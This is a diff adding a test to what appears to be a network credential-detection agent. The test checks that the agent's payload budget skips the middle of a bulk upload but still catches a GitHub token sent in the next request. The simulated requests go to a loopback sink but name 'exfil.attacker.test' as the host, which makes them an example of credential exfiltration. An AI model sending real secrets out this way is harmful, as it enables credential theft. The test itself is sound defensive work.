@@ -187,3 +187,38 @@ def test_budget_keeps_catching_headers_after_a_bulk_body():
     # the bulk body was not copied whole: the agent saw far less than was sent
     sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
     assert sent < 100 << 10, sent
+
+
+def test_budget_skips_the_middle_of_a_bulk_transfer_not_the_next_request():
+    """Past the budget, a large write right after another large one is the middle of a bulk
+    transfer and is not copied at all; a large write after a short one (a body after its
+    headers) still has its head copied, so a credential there is found."""
+    require_root()
+    sink = Sink()
+    agent = Agent("--include-loopback", "--payload-budget", "64K")
+    token = github_token()
+    try:
+        s = socket.create_connection(("127.0.0.1", sink.port))
+        bulk = b"x" * (400 << 10)
+        s.sendall(b"POST /upload HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
+                  b"\r\n\r\n" % len(bulk))
+        for i in range(0, len(bulk), 16384):
+            s.sendall(bulk[i:i + 16384])
+        s.recv(4096)
+        body = (b'{"token": "%s"}' % token.encode()).ljust(16384, b" ")
+        s.sendall(b"POST /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
+                  b"\r\n\r\n" % len(body))
+        s.sendall(body)
+        s.recv(4096)
+        s.close()
+        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
+    finally:
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    # 64 KiB budget, then nothing of the 21 bulk writes that follow a bulk write, then the
+    # second request's headers and its body's first KiB: with a 1 KiB head of each bulk
+    # write it would be past 85 KiB
+    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    assert sent < (64 << 10) + 4096, sent
